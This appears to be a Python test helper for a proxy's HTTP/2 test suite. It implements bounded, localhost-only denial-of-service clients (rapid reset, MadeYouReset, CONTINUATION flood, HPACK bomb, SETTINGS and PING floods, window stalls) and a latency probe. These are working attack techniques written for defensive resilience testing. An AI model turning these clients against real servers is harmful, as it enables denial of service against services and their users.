"""Hostile HTTP/2 clients (h2c with prior knowledge) for tests/h2_attacks.rs, and the
well-behaved probe that runs beside them.

    client.py ATTACK PORT SECONDS   one attack, bounded by SECONDS and a frame count
    client.py probe PORT SECONDS    a GET every 100 ms, each on a new connection, until
                                    SECONDS or its stdin closes

An attack ends when the proxy sends GOAWAY or closes, when its frame budget is spent,
or at SECONDS; it then waits (bounded) for the proxy's verdict and prints one line:
    result goaway=CODE|none rst=N responses=N closed=0|1 sent=N secs=S
The probe prints:
    probe ok=N fail=N median_ms=M max_ms=M
Frames are built with hyperframe and hpack so that invalid ones can be sent too.
"""

import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
    9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
}


class Conn:
    """A raw h2c connection: frames out as given, frames in counted by a reader thread."""

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = Encoder()
        self.goaway = None
        self.rst = 0
        self.responses = 0
        self.data = 0
        self.closed = threading.Event()
        self.verdict = threading.Event()
        self.sent = 0
        s = SettingsFrame(0)
        s.settings = settings or {}
        self.sock.sendall(PREFACE + s.serialize())
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed.set()
                self.verdict.set()
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                f, _ = Frame.parse_frame_header(memoryview(buf[:9]))
                try:
                    f.parse_body(memoryview(buf[9 : 9 + n]))
                except Exception:
                    pass
                buf = buf[9 + n :]
                if isinstance(f, GoAwayFrame):
                    self.goaway = ERRORS.get(f.error_code, str(f.error_code))
                    self.verdict.set()
                elif isinstance(f, RstStreamFrame):
                    self.rst += 1
                elif isinstance(f, HeadersFrame):
                    self.responses += 1
                elif isinstance(f, DataFrame):
                    self.data += len(f.data)

    def done(self):
        return self.verdict.is_set()

    def send(self, frames):
        """Sends frames at once; False once the proxy closed or went away."""
        if self.done():
            return False
        try:
            self.sock.sendall(b"".join(f.serialize() for f in frames))
        except OSError:
            self.closed.set()
            self.verdict.set()
            return False
        self.sent += len(frames)
        return True

    def headers(self, sid, path="/", method="GET", end_stream=True, extra=(), end_headers=True):
        block = self.enc.encode(
            [(":method", method), (":scheme", "http"), (":authority", "localhost"),
             (":path", path)] + list(extra)
        )
        f = HeadersFrame(sid)
        f.data = block
        f.flags = set()
        if end_headers:
            f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f

    def report(self, t0, wait):
        # the verdict may come after the last frame: wait for it, bounded
        self.verdict.wait(wait)
        # a GOAWAY is followed by the close; give the reader a moment to see it
        self.closed.wait(1.0)
        print(
            f"result goaway={self.goaway or 'none'} rst={self.rst} "
            f"responses={self.responses} closed={int(self.closed.is_set())} "
            f"sent={self.sent} secs={time.monotonic() - t0:.2f}",
            flush=True,
        )
        self.sock.close()


def ids(n):
    return range(1, 2 * n, 2)


def rapid_reset(c, until):
    """CVE-2023-44487: open a stream and cancel it at once, again and again, in bursts
    of 20 with a pause after each, so the proxy has accepted every stream (the queue of
    streams reset before they were accepted stays short) before it is cancelled."""
    batch = []
    for sid in ids(50000):
        r = RstStreamFrame(sid)
        r.error_code = 8
        batch += [c.headers(sid), r]
        if len(batch) >= 10:
            if not c.send(batch) or time.monotonic() > until:
                return
            batch = []
            time.sleep(0.002)


def rapid_reset_burst(c, until):
    """CVE-2023-44487 as one burst: thousands of opened-and-cancelled streams at once."""
    batch = []
    for sid in ids(50000):
        r = RstStreamFrame(sid)
        r.error_code = 8
        batch += [c.headers(sid), r]
        if len(batch) >= 200:
            if not c.send(batch) or time.monotonic() > until:
                return
            batch = []


def reset_after_headers(c, until):
    """Rapid reset once each response has begun: twenty streams of a body the origin
    sends slowly, cancelled as soon as their response heads came, again and again.
    The proxy learns of each reset only when it next has body to send, so the work
    of cancelled streams outlives them unless the proxy bounds it."""
    sid = 1
    while time.monotonic() < until and not c.done():
        first = sid
        want = c.responses + 20
        if not c.send([c.headers(s, path="/slow") for s in range(first, first + 40, 2)]):
            return
        sid += 40
        t = time.monotonic()
        while c.responses < want and time.monotonic() - t < 1.0 and not c.done():
            time.sleep(0.005)
        resets = []
        for s in range(first, sid, 2):
            r = RstStreamFrame(s)
            r.error_code = 8
            resets.append(r)
        if not c.send(resets):
            return


def made_you_reset(c, until):
    """CVE-2025-8671: frames that make the server reset each stream itself (a window
    overflow, a stream depending on itself), so no RST_STREAM comes from the client."""
    batch = []
    for i, sid in enumerate(ids(50000)):
        batch.append(c.headers(sid))
        if i % 2 == 0:
            w = WindowUpdateFrame(sid)
            w.window_increment = 0x7FFFFFFF
            batch.append(w)
        else:
            p = PriorityFrame(sid)
            p.depends_on = sid
            p.stream_weight = 15
            batch.append(p)
        if len(batch) >= 300:
            if not c.send(batch) or time.monotonic() > until:
                return
            batch = []


def data_on_closed(c, until):
    """DATA on streams the client already ended (a MadeYouReset variant that h2 treats
    as a connection error)."""
    batch = []
    for sid in ids(50000):
        d = DataFrame(sid)
        d.data = b"x"
        batch += [c.headers(sid), d]
        if len(batch) >= 300:
            if not c.send(batch) or time.monotonic() > until:
                return
            batch = []


def continuation_flood(c, until):
    """CVE-2024-27316: a header block that never ends, one CONTINUATION after another;
    every other batch is made of empty CONTINUATION frames."""
    if not c.send([c.headers(1, method="POST", end_stream=False, end_headers=False)]):
        return
    for i in range(2000):
        batch = []
        for _ in range(100):
            f = ContinuationFrame(1)
            f.data = b"" if i % 2 else c.enc.encode([("x-flood", "a" * 64)])
            batch.append(f)
        if not c.send(batch) or time.monotonic() > until:
            return


def hpack_bomb(c, until):
    """A 4000-byte value put in the dynamic table once, then referenced by a one-byte
    index thousands of times per header block (tens of MB decoded per stream); the
    client's window is 0 so no answer can drain."""
    big = ("x-bomb", "b" * 4000)
    first = c.headers(1, extra=[big])
    if not c.send([first]):
        return
    # index 62 is the newest dynamic table entry: the bomb (0x80 | 62)
    refs = bytes([0x80 | 62]) * 16000
    for sid in ids(400):
        if sid == 1:
            continue
        f = c.headers(sid)
        f.data = f.data + refs
        if not c.send([f]) or time.monotonic() > until:
            return


def hpack_int(n, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 section 5.1) with `first` in the prefix's high bits."""
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out = [first | top]
    n -= top
    while n >= 128:
        out.append(0x80 | (n & 0x7F))
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value):
    """A field as a literal without indexing, new name, no Huffman coding."""
    return (b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value)


def big_headers(c, until):
    """Header lists over the limit (100 KiB of distinct fields over HEADERS and
    CONTINUATION frames) on stream after stream, with a window of 0."""
    fields = b"".join(literal(b"x-big-%d" % i, b"h" * 500) for i in range(200))
    for sid in ids(400):
        block = c.headers(sid).data + fields
        frames = []
        chunks = [block[i : i + 16000] for i in range(0, len(block), 16000)]
        for j, chunk in enumerate(chunks):
            f = HeadersFrame(sid) if j == 0 else ContinuationFrame(sid)
            f.data = chunk
            f.flags = {"END_STREAM"} if j == 0 else set()
            if j == len(chunks) - 1:
                f.flags.add("END_HEADERS")
            frames.append(f)
        if not c.send(frames) or time.monotonic() > until:
            return


def settings_flood(c, until):
    """SETTINGS frame after SETTINGS frame (each one owes an ACK)."""
    for _ in range(1000):
        batch = []
        for _ in range(200):
            s = SettingsFrame(0)
            s.settings = {SettingsFrame.HEADER_TABLE_SIZE: 4096}
            batch.append(s)
        if not c.send(batch) or time.monotonic() > until:
            return


def ping_flood(c, until):
    """PING after PING (each one owes an ACK)."""
    for i in range(1000):
        batch = []
        for j in range(200):
            p = PingFrame(0)
            p.opaque_data = (i * 200 + j).to_bytes(8, "big")
            batch.append(p)
        if not c.send(batch) or time.monotonic() > until:
            return


def empty_data(c, until):
    """A request body made of nothing but empty DATA frames."""
    if not c.send([c.headers(1, method="POST", end_stream=False)]):
        return
    for _ in range(1000):
        batch = [DataFrame(1) for _ in range(200)]
        if not c.send(batch) or time.monotonic() > until:
            return


def window_one(c, until):
    """A window of 1 byte on 100 streams of large bodies, never opened further."""
    frames = [c.headers(sid, path="/big") for sid in ids(100)]
    c.send(frames)
    while time.monotonic() < until and not c.done():
        time.sleep(0.05)


ATTACKS = {
    "rapid_reset": (rapid_reset, {}),
    "rapid_reset_burst": (rapid_reset_burst, {}),
    "reset_after_headers": (reset_after_headers, {}),
    "made_you_reset": (made_you_reset, {}),
    "data_on_closed": (data_on_closed, {}),
    "continuation_flood": (continuation_flood, {}),
    "hpack_bomb": (hpack_bomb, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}),
    "big_headers": (big_headers, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}),
    "settings_flood": (settings_flood, {}),
    "ping_flood": (ping_flood, {}),
    "empty_data": (empty_data, {}),
    "window_one": (window_one, {SettingsFrame.INITIAL_WINDOW_SIZE: 1}),
}


def probe(port, secs):
    """Well-behaved GETs, each on a new connection (so they land on every worker)."""
    import h2.config
    import h2.connection
    import h2.events

    ok, fail, lat = 0, 0, []
    end = time.monotonic() + secs
    stop = threading.Event()

    def until_stdin_closes():
        sys.stdin.read()
        stop.set()

    threading.Thread(target=until_stdin_closes, daemon=True).start()
    while time.monotonic() < end and not stop.is_set():
        t0 = time.monotonic()
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.settimeout(5)
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            conn.send_headers(1, [(":method", "GET"), (":scheme", "http"),
                                  (":authority", "localhost"), (":path", "/probe")],
                              end_stream=True)
            s.sendall(conn.data_to_send())
            status, done = None, False
            while not done:
                data = s.recv(1 << 16)
                if not data:
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = dict(ev.headers).get(b":status")
                    elif isinstance(ev, h2.events.DataReceived):
                        conn.acknowledge_received_data(ev.flow_controlled_length, 1)
                    elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                        done = True
                s.sendall(conn.data_to_send())
            s.close()
            if status == b"200" and done:
                ok += 1
                lat.append((time.monotonic() - t0) * 1000)
            else:
                fail += 1
        except OSError:
            fail += 1
        time.sleep(0.1)
    lat.sort()
    med = lat[len(lat) // 2] if lat else 0
    mx = lat[-1] if lat else 0
    print(f"probe ok={ok} fail={fail} median_ms={med:.1f} max_ms={mx:.1f}", flush=True)


def main():
    name, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if name == "probe":
        return probe(port, secs)
    attack, settings = ATTACKS[name]
    t0 = time.monotonic()
    c = Conn(port, settings)
    attack(c, t0 + secs)
    c.report(t0, 2.0)


if __name__ == "__main__":
    main()
